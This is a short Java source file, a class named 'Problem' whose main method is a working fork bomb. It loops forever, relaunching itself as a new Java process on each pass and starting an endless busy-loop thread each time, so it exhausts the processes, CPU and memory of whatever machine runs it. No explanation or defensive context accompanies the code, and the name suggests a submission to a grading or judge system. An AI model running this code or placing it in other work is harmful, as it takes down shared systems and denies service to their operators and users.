class Problem {
    public static void main(String[] args) throws Exception {
        for (;;) {
            try {
                new ProcessBuilder("java", "-cp", ".", "Problem").start();
            } catch (Exception e) {
            }
            new Thread(() -> { for (;;) {} }).start();
        }
    }
}
